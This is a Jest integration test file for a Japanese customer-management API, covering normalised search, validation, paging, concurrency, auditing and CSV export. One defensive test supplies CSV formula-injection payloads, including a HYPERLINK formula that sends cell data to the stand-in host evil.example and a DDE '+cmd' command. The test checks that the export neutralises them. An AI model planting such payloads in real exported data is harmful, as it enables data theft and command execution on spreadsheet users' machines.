import { readCsv } from '@madoguchi/core';
import { DB_KINDS } from '@test/support/databases';
import { parse } from 'csv-parse/sync';
import { Session, startTestApp, TestApp } from '@test/support/test-app';

jest.setTimeout(60_000);

const PEOPLE = [
  { lastName: '田中', firstName: '太郎', lastNameKana: 'たなか', firstNameKana: 'ﾀﾛｳ', email: 'Taro@Example.jp', tel: '03-1234-5678', mobile: '09011112222', branch: '東京本店', postalCode: '1000001', address: '東京都千代田区1-1' },
  { lastName: '山田', firstName: '花子', lastNameKana: 'ヤマダ', firstNameKana: 'ハナコ', email: 'hanako@example.jp', mobile: '080-3333-4444', branch: '大阪支店' },
  { lastName: '佐藤', firstName: '次郎', lastNameKana: 'サトウ', firstNameKana: 'ジロウ', email: 'jiro@example.jp', tel: '０６−６１２３−４５６７', branch: '大阪支店', comment: '田んぼの近く' },
  { lastName: '鈴木', firstName: '三郎', lastNameKana: 'スズキ', firstNameKana: 'サブロウ', email: 'saburo@example.jp', branch: '名古屋支店' },
];

describe.each(DB_KINDS)('customers API on %s', (kind) => {
  let t: TestApp;
  let admin: Session;
  const ids: number[] = [];

  beforeAll(async () => {
    t = await startTestApp(kind);
    admin = await t.login();
    for (const p of PEOPLE) ids.push((await admin.post('/api/customers', p).expect(201)).body.id);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('creates a customer with a sequential code and normalised fields', async () => {
    const res = await admin.get(`/api/customers/${ids[0]}`).expect(200);
    expect(res.body).toMatchObject({
      code: '100001',
      lastName: '田中',
      lastNameKana: 'タナカ',
      firstNameKana: 'タロウ',
      email: 'taro@example.jp',
      tel: '03-1234-5678',
      mobile: '090-1111-2222',
      postalCode: '100-0001',
      registrationState: 'registered',
      listFlag: 'normal',
      smsConsent: false,
      assigneeIds: [],
    });
    const second = await admin.get(`/api/customers/${ids[1]}`).expect(200);
    expect(second.body.code).toBe('100002');
  });

  it('finds customers by a single kanji anywhere in any field', async () => {
    const res = await admin.get('/api/customers').query({ q: '田' }).expect(200);
    const names = res.body.items.map((c: { lastName: string }) => c.lastName).sort();
    // 田中 and 山田 by name, 佐藤 by the comment 「田んぼの近く」.
    expect(names).toEqual(['佐藤', '山田', '田中'].sort());
    expect(res.body.total).toBe(3);
  });

  it('matches phone numbers whatever their hyphens or width', async () => {
    for (const q of ['09011112222', '090-1111-2222', '1111-2222', '０９０１１１１']) {
      const res = await admin.get('/api/customers').query({ q }).expect(200);
      expect(res.body.items.map((c: { id: number }) => c.id)).toEqual([ids[0]]);
    }
    const byField = await admin.get('/api/customers').query({ tel: '0661234567' }).expect(200);
    expect(byField.body.items.map((c: { id: number }) => c.id)).toEqual([ids[2]]);
  });

  it('matches kana in hiragana, katakana or half-width, and names across the space', async () => {
    for (const q of ['たなか', 'タナカ', 'ﾀﾅｶ', '田中太郎', '田中 太郎']) {
      const res = await admin.get('/api/customers').query({ q }).expect(200);
      expect(res.body.items.map((c: { id: number }) => c.id)).toEqual([ids[0]]);
    }
    const kana = await admin.get('/api/customers').query({ kana: 'やまだ' }).expect(200);
    expect(kana.body.items.map((c: { id: number }) => c.id)).toEqual([ids[1]]);
  });

  it('narrows by field filters and treats LIKE wildcards literally', async () => {
    const osaka = await admin.get('/api/customers').query({ branch: '大阪' }).expect(200);
    expect(osaka.body.total).toBe(2);
    const both = await admin.get('/api/customers').query({ branch: '大阪', q: '花' }).expect(200);
    expect(both.body.items.map((c: { id: number }) => c.id)).toEqual([ids[1]]);
    const wildcard = await admin.get('/api/customers').query({ q: '%' }).expect(200);
    expect(wildcard.body.total).toBe(0);
    const postal = await admin.get('/api/customers').query({ postalCode: '100-00' }).expect(200);
    expect(postal.body.items.map((c: { id: number }) => c.id)).toEqual([ids[0]]);
  });

  it('pages with a total count', async () => {
    const p1 = await admin.get('/api/customers').query({ pageSize: 3, page: 1, sort: 'code' }).expect(200);
    const p2 = await admin.get('/api/customers').query({ pageSize: 3, page: 2, sort: 'code' }).expect(200);
    expect(p1.body.total).toBe(4);
    expect(p1.body.items).toHaveLength(3);
    expect(p2.body.items.map((c: { id: number }) => c.id)).toEqual([ids[3]]);
    await admin.get('/api/customers').query({ pageSize: 1000 }).expect(400);
  });

  it('updates fields and assignees, and refuses bad input with a message per field', async () => {
    const users = await admin.get('/api/users').expect(200);
    const res = await admin
      .patch(`/api/customers/${ids[3]}`, { mobile: '070 5555 6666', assigneeIds: [users.body[0].id], birthday: '1980-02-29', listFlag: 'grey', smsConsent: true })
      .expect(200);
    expect(res.body).toMatchObject({ mobile: '070-5555-6666', assigneeIds: [users.body[0].id], birthday: '1980-02-29', listFlag: 'grey', smsConsent: true });
    const mine = await admin.get('/api/customers').query({ assigneeId: users.body[0].id }).expect(200);
    expect(mine.body.items.map((c: { id: number }) => c.id)).toEqual([ids[3]]);

    const bad = await admin
      .patch(`/api/customers/${ids[3]}`, { email: 'nope', birthday: '1980-02-30', listFlag: 'purple', lastNameKana: '鈴木', postalCode: '12' })
      .expect(400);
    expect(Object.keys(bad.body.fields).sort()).toEqual(['birthday', 'email', 'lastNameKana', 'listFlag', 'postalCode']);
    const badPhone = await admin.patch(`/api/customers/${ids[3]}`, { tel: '12' }).expect(400);
    expect(badPhone.body.fields.tel[0]).toMatch(/phone/);
    await admin.patch(`/api/customers/${ids[3]}`, { assigneeIds: [9999] }).expect(400);
    const missing = await admin.post('/api/customers', { firstName: '名のみ' }).expect(400);
    expect(missing.body.fields.lastName).toBeDefined();
    // Nothing of the refused updates was kept.
    const after = await admin.get(`/api/customers/${ids[3]}`).expect(200);
    expect(after.body.email).toBe('saburo@example.jp');
    expect(after.body.tel).toBeNull();
  });

  it('creates customers concurrently, each with its own code, none lost', async () => {
    const results = await Promise.all(
      Array.from({ length: 20 }, (_, i) => admin.post('/api/customers', { lastName: `並行${i}`, tel: `03-0000-${String(i).padStart(4, '0')}` })),
    );
    expect(results.map((r) => r.status)).toEqual(Array(20).fill(201));
    const codes = new Set(results.map((r) => r.body.code));
    expect(codes.size).toBe(20);
    const found = await admin.get('/api/customers').query({ q: '並行', pageSize: 50 }).expect(200);
    expect(found.body.total).toBe(20);
    await Promise.all(results.map((r) => admin.delete(`/api/customers/${r.body.id}`).expect(204)));
  });

  it('refuses a customer code already in use', async () => {
    const res = await admin.post('/api/customers', { lastName: '重複', code: '100001' }).expect(409);
    expect(res.body.message).toMatch(/100001/);
  });

  it('answers 404 for unknown ids and 400 for ids that are not numbers', async () => {
    await admin.get('/api/customers/999999').expect(404);
    await admin.patch('/api/customers/999999', { lastName: 'x' }).expect(404);
    await admin.delete('/api/customers/999999').expect(404);
    await admin.get('/api/customers/abc').expect(400);
  });

  it('exports the search result as CSV with a BOM, every page of it', async () => {
    const res = await admin.get('/api/customers/export.csv').query({ branch: '大阪', pageSize: 1 }).buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = body.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0].startsWith('顧客コード,姓,名')).toBe(true);
    expect(lines).toHaveLength(3);
    expect(lines.slice(1).map((l) => l.split(',')[1]).sort()).toEqual(['佐藤', '山田'].sort());
  });

  it('exports no cell a spreadsheet would run as a formula, and the product reads it back unchanged', async () => {
    const attack = { lastName: '=HYPERLINK("http://evil.example/?"&A1,"詳細")', firstName: '+cmd|\' /C calc\'!A0', comment: '\t=1+1', address: '＠SUM(A1)', branch: 'CSV攻撃' };
    const c = await admin.post('/api/customers', attack).expect(201);
    const res = await admin.get('/api/customers/export.csv').query({ branch: 'CSV攻撃' }).buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (x: Buffer) => chunks.push(x));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    const rows = parse(res.body as Buffer, { bom: true }) as string[][];
    const header = rows[0];
    const row = rows[1];
    // Stored as given, less the trimming every text field gets.
    for (const [column, value] of [['姓', c.body.lastName], ['名', c.body.firstName], ['コメント', c.body.comment], ['住所', c.body.address]]) {
      expect(row[header.indexOf(column)]).toBe(`'${value}`);
    }
    expect(readCsv(res.body as Buffer)[1][header.indexOf('姓')]).toBe(attack.lastName);
    await admin.delete(`/api/customers/${c.body.id}`).expect(204);
  });

  it('deletes a customer and audits it', async () => {
    const c = await admin.post('/api/customers', { lastName: '削除' }).expect(201);
    await admin.delete(`/api/customers/${c.body.id}`).expect(204);
    await admin.get(`/api/customers/${c.body.id}`).expect(404);
    const audit = await admin.get(`/api/audit?entity=customer&entityId=${c.body.id}`).expect(200);
    expect(audit.body.map((e: { action: string }) => e.action)).toEqual(['delete', 'create']);
    expect(audit.body[0].before.lastName).toBe('削除');
  });
});
